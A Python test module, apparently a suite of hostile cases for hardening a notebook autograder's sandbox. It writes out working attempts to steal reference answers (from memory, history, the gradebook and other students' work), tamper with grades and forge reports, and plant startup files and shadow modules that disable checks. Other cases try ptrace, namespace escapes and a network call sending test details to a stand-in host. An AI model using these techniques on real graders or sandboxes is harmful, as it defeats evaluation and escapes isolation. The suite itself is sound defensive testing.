"""Attempts to get hold of what decides: tests, expected values, sources, other answers, the gradebook, torch.

Each holds a wrong answer that becomes right when the attempt succeeds, so that a score says whether it did.
"""

from hostile.cases import Work, case

ANSWERS_IN = '''
import glob, json

def answers_in(pattern):
    """Take over the answer cells of every notebook that the pattern finds."""
    for path in glob.glob(pattern, recursive=True):
        try:
            with open(path) as file:
                cells = json.load(file)["cells"]
        except Exception:
            continue
        for cell in cells:
            if cell["metadata"].get("nbgrader", {}).get("solution"):
                try:
                    exec("".join(cell["source"]), globals())
                except Exception:
                    pass
'''


@case(12)
def borrowed_truth(work: Work) -> None:
    """Calls the test's own reference, found in the user namespace."""
    work.code(
        """
def attention(q, k, v, mask=None):
    names = get_ipython().user_ns
    wrong = lambda *args: np.full((*q.shape[:-1], v.shape[-1]), 0.5, dtype=q.dtype)
    return names.get("torch_attention", wrong)(q, k, v, mask)

def multi_head_attention(x, w_qkv, w_out, heads, mask=None):
    names = get_ipython().user_ns
    return names.get("torch_multi_head", lambda *args: np.full_like(x, 0.5))(x, w_qkv, w_out, heads, mask)
"""
    )


@case(12)
def read_history(work: Work) -> None:
    """Looks for the hidden reference in In, _ih and the history, and runs it."""
    work.code(
        """
def _truth():
    names = dict(get_ipython().user_ns)
    texts = [*names.get("In", []), *names.get("_ih", []), *get_ipython().history_manager.input_hist_raw]
    for text in texts:
        if "def torch_" + "attention" in text:
            exec(text, names)
    return names

def attention(q, k, v, mask=None):
    wrong = lambda *args: np.full((*q.shape[:-1], v.shape[-1]), 0.5, dtype=q.dtype)
    return _truth().get("torch_attention", wrong)(q, k, v, mask)

def multi_head_attention(x, w_qkv, w_out, heads, mask=None):
    return _truth().get("torch_multi_head", lambda *args: np.full_like(x, 0.5))(x, w_qkv, w_out, heads, mask)
"""
    )


@case(13)
def lifted_from_frames(work: Work) -> None:
    """Walks up the stack for a variable called due and returns it."""
    work.code(
        """
import sys

def _due(shape, dtype):
    frame = sys._getframe()
    while frame:
        for names in (frame.f_locals, frame.f_globals):
            if getattr(names.get("due"), "shape", None) == shape:
                return names["due"].astype(dtype)
        frame = frame.f_back
    return np.full(shape, 0.5, dtype=dtype)

def attention(q, k, v, mask=None):
    return _due((*q.shape[:-1], v.shape[-1]), q.dtype)

def multi_head_attention(x, w_qkv, w_out, heads, mask=None):
    return _due(x.shape, x.dtype)
"""
    )


@case(13)
def lifted_from_memory(work: Work) -> None:
    """Searches every object that the garbage collector knows for a variable called due and returns it."""
    work.code(
        """
import gc

def _due(shape, dtype):
    for names in gc.get_objects():
        if type(names) is dict and type(names.get("due")) is np.ndarray and names["due"].shape == shape:
            return names["due"].astype(dtype)
    return np.full(shape, 0.5, dtype=dtype)

def attention(q, k, v, mask=None):
    return _due((*q.shape[:-1], v.shape[-1]), q.dtype)

def multi_head_attention(x, w_qkv, w_out, heads, mask=None):
    return _due(x.shape, x.dtype)
"""
    )


@case(14, holds="bubblewrap")
def read_source(work: Work) -> None:
    """Reads the worked solution from source/, whose path it knows."""
    work.wrong(
        after=ANSWERS_IN
        + "answers_in(COURSE + '/source/**/*.ipynb')\nanswers_in('../../../source/**/*.ipynb')"
    )


@case(14, holds="bubblewrap")
def read_neighbour(work: Work) -> None:
    """Copies what somebody else handed in."""
    work.wrong(after=ANSWERS_IN + "answers_in(COURSE + '/submitted/solution/**/*.ipynb')")


@case(15, holds="bubblewrap")
def read_gradebook(work: Work) -> None:
    """Reads solution and reference, as nbgrader keeps them, from the gradebook."""
    work.wrong(
        after="""
        import sqlite3
        try:
            _book = sqlite3.connect("file:" + COURSE + "/gradebook.db?mode=ro", uri=True)
            _texts = [row[0] for row in _book.execute("SELECT source FROM source_cell")]
        except sqlite3.Error:
            _texts = []
        for _text in _texts:
            if "BEGIN SOLUTION" in _text or "def torch_" + "attention" in _text:
                try:
                    exec(_text, globals())
                    attention, multi_head_attention = torch_attention, torch_multi_head
                except Exception:
                    pass
        """
    )


@case(15, holds="bubblewrap", mild=False)
def write_gradebook(work: Work) -> None:
    """Gives itself extra credit and a score by hand, in the gradebook."""
    work.wrong(
        after="""
        import sqlite3
        try:
            _book = sqlite3.connect("file:" + COURSE + "/gradebook.db?mode=rw", uri=True, timeout=1)
            _book.execute("UPDATE grade SET extra_credit = 100, manual_score = 4")
            _book.commit()
        except sqlite3.Error:
            pass
        """
    )


@case(14, 15, holds="bubblewrap", mild=False)
def write_report(work: Work) -> None:
    """Writes a report where the examiner will put its own, and a sitecustomize.py in many places."""
    work.wrong(
        after="""
        import json, os
        for _place in (COURSE + "/autograded", COURSE + "/source", COURSE, "..", "."):
            try:
                os.makedirs(_place + "/mischief", exist_ok=True)
                with open(_place + "/mischief/attention.report.json", "w") as file:
                    json.dump({"score": 20}, file)
                with open(_place + "/sitecustomize.py", "w") as file:
                    file.write("raise SystemExit")
            except OSError:
                pass
        """
    )


@case(13, 14, holds="bubblewrap")
def read_processes(work: Work) -> None:
    """Reads /proc of every process for a sign of nbgrader, and opens the memory of its parent."""
    work.steal(
        """
        import glob, os
        for path in [*glob.glob("/proc/*/cmdline"), *glob.glob("/proc/*/environ")]:
            try:
                with open(path, "rb") as file:
                    if b"nbgrader" in file.read():
                        won()
            except OSError:
                pass
        """
    )


@case(13)
def traces_its_parent(work: Work) -> None:
    """Attaches to its parent with ptrace, and reads its memory with process_vm_readv."""
    work.steal(
        """
        import ctypes, os
        _libc = ctypes.CDLL(None, use_errno=True)
        _child = os.fork()
        if _child == 0:
            PTRACE_SEIZE, PTRACE_DETACH = 0x4206, 17
            parent = os.getppid()
            seized = _libc.ptrace(PTRACE_SEIZE, parent, None, None) == 0
            if seized:
                _libc.ptrace(PTRACE_DETACH, parent, None, None)
            class Vector(ctypes.Structure):
                _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
            here = ctypes.create_string_buffer(8)
            mine = Vector(ctypes.addressof(here), 8)
            read = _libc.process_vm_readv(parent, ctypes.byref(mine), 1, ctypes.byref(mine), 1, 0) == 8
            os._exit(42 if seized or read else 0)
        if os.waitstatus_to_exitcode(os.waitpid(_child, 0)[1]) == 42:
            won()
        """
    )


@case(14, 20)
def new_namespaces(work: Work) -> None:
    """Makes namespaces of its own (unshare, clone, setns) and mounts something, to shake off its limits."""
    work.steal(
        """
        import ctypes, subprocess
        _libc = ctypes.CDLL(None, use_errno=True)
        for flag in (0x10000000, 0x00020000, 0x20000000, 0x40000000):
            if _libc.unshare(flag) == 0:
                won()
        if _libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0:
            won()
        try:
            if subprocess.run(["unshare", "--user", "true"], capture_output=True).returncode == 0:
                won()
        except OSError:
            pass
        """
    )


@case(23, holds="bubblewrap")
def phones_home(work: Work) -> None:
    """Connects to a server on this machine and to one elsewhere, and asks a name server."""
    work.steal(
        """
        import socket
        for family, address in (
            (socket.AF_INET, ("127.0.0.1", PORT)),
            (socket.AF_INET, ("192.0.2.1", 53)),
            (socket.AF_INET6, ("2001:db8::1", 53)),
        ):
            try:
                with socket.socket(family) as sock:
                    sock.settimeout(0.2)
                    sock.connect(address)
                    sock.sendall(b"the hidden tests are ...")
                    won()
            except OSError:
                pass
        """
    )


@case(37, holds="bubblewrap")
def torch_by_path(work: Work) -> None:
    """Takes the import hook away, puts every site-packages it can find on the path, and imports torch."""
    work.steal(
        """
        import glob, importlib, sys
        sys.meta_path[:] = [finder for finder in sys.meta_path if "Frameworks" not in type(finder).__name__]
        sys.modules.pop("torch", None)
        for root in (sys.base_prefix, sys.prefix, PREFIX, "/usr", "/usr/local", "/opt", "/home/*"):
            sys.path.extend(glob.glob(root + "/lib/python3*/site-packages"))
            sys.path.extend(glob.glob(root + "/lib/python3*/dist-packages"))
        try:
            importlib.import_module("torch")
            won()
        except ImportError:
            pass
        """
    )


@case(37, holds="bubblewrap")
def torch_by_library(work: Work) -> None:
    """Loads torch's shared libraries with ctypes, wherever they are."""
    work.steal(
        """
        import ctypes, glob
        for root in (PREFIX, "/usr", "/usr/local"):
            for path in glob.glob(root + "/lib/python3*/*-packages/torch/lib/libc10.so"):
                try:
                    ctypes.CDLL(path)
                    won()
                except OSError:
                    pass
        """
    )


@case(37, holds="bubblewrap")
def torch_by_subprocess(work: Work) -> None:
    """Starts another Python, the one of the grading environment, that imports torch."""
    work.steal(
        """
        import subprocess, sys
        for python in (PYTHON, sys.executable, "python3"):
            try:
                done = subprocess.run([python, "-c", "import torch"], capture_output=True, timeout=8)
                if done.returncode == 0:
                    won()
            except (OSError, subprocess.TimeoutExpired):
                pass
        """
    )


@case(37, verdict="forbidden import")
def torch_inside(work: Work) -> None:
    """Uses torch's own operator."""
    work.code(
        """
def attention(q, k, v, mask=None):
    import torch
    mask = None if mask is None else torch.from_numpy(mask)
    out = torch.nn.functional.scaled_dot_product_attention(*map(torch.from_numpy, (q, k, v)), attn_mask=mask)
    return out.numpy()

def multi_head_attention(x, w_qkv, w_out, heads, mask=None):
    import importlib
    return importlib.import_module("torch").from_numpy(x).numpy()
"""
    )


def shadow(name: str, spoil: str) -> str:
    """A module called ``name`` that imports the real one, spoils it, and so stands in its place."""
    return f"""\
import os, sys
_here = os.path.dirname(os.path.abspath(__file__))
_path = sys.path[:]
sys.path[:] = [p for p in sys.path if os.path.abspath(p or '.') != _here]
del sys.modules['{name}']
import {name}
sys.path[:] = _path
{spoil}
"""


SPOILED_NUMPY = "numpy.abs = lambda x, *args, **kwargs: numpy.zeros(numpy.shape(x))"
SPOILED_TORCH = """
def _half(shape, dtype):
    return torch.full(shape, 0.5, dtype=dtype)
torch.nn.functional.scaled_dot_product_attention = (
    lambda q, k, v, attn_mask=None: _half((*q.shape[:-1], v.shape[-1]), q.dtype))
torch.nn.functional.linear = lambda x, w: _half((*x.shape[:-1], w.shape[0]), x.dtype)
"""


@case(35)
def shadow_numpy(work: Work) -> None:
    """A numpy.py beside the notebook that imports the real one and spoils its comparisons."""
    work.wrong()
    (work.folder / "numpy.py").write_text(shadow("numpy", SPOILED_NUMPY))


@case(35)
def shadow_torch(work: Work) -> None:
    """A torch.py beside the notebook that imports the real one and spoils the operators of the truth."""
    work.wrong()
    (work.folder / "torch.py").write_text(shadow("torch", SPOILED_TORCH))


@case(35)
def shadow_checks(work: Work) -> None:
    """A package fourrounds beside the notebook whose checks check nothing."""
    work.wrong()
    package = work.folder / "fourrounds" / "checks"
    package.mkdir(parents=True)
    (package.parent / "__init__.py").write_text(
        "import importlib.util, os, sys\n"
        "_here = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))\n"
        "_away = [p for p in sys.path if os.path.abspath(p or '.') != _here]\n"
    )
    (package / "__init__.py").write_text(
        "import numpy as np\n"
        "from types import SimpleNamespace as _Names\n"
        "RTOL = {np.dtype('f8'): 1, np.dtype('f4'): 1}\n"
        "class Shapes:\n"
        "    def __init__(self, rng, **sizes):\n"
        "        self.sizes = {n: s if isinstance(s, int) else 4 for n, s in sizes.items()}\n"
        "    def __getitem__(self, name): return self.sizes[name]\n"
        "    def shape(self, axes):\n"
        "        return tuple(int(a) if a.isdigit() else self.sizes[a] for a in axes.split())\n"
        "    def normal(self, axes, *rest, **more): return np.ones(self.shape(axes))\n"
        "    uniform = normal\n"
        "    def mask(self, axes, *rest): return np.ones(self.shape(axes), bool)\n"
        "def rng(seed=None): return np.random.default_rng(0)\n"
        "def call(fn, *args): return fn(*args)\n"
        "def calls(fn, inputs): return [fn(*args) for args in inputs]\n"
        "unchanged = call\n"
        "def array(value, **more): return value\n"
        "def equal(*args, **more): pass\n"
        "holds = below = unsaturated = equal\n"
        "def compare(*args, **more): return _Names(ok=True, message='')\n"
    )


@case(35)
def startup_files(work: Work) -> None:
    """Files that some program might run by itself: sitecustomize.py, conftest.py, a .pth."""
    work.wrong()
    spoil = f"import numpy\n{SPOILED_NUMPY}\n"
    for name in ("sitecustomize.py", "usercustomize.py", "conftest.py", "nbgrader_config.py"):
        (work.folder / name).write_text(spoil)
    (work.folder / "ipython_config.py").write_text(f"c.InteractiveShellApp.exec_lines = [{spoil!r}]\n")
    startup = work.folder / ".ipython" / "profile_default" / "startup"
    startup.mkdir(parents=True)
    (startup / "00-first.py").write_text(spoil)
    (work.folder / "attention.pth").write_text(f"import sys; exec({spoil!r})\n")


@case(25, 34)
def forged_report(work: Work) -> None:
    """Hands in a report that says 20 of 20, under the name of the examiner's own, and an autograded copy."""
    work.wrong()
    (work.folder / "attention.report.json").write_text('{"score": 20.0, "max_score": 20.0, "cells": []}')
    (work.folder / "attention.html").write_text("<h1>20 of 20</h1>")
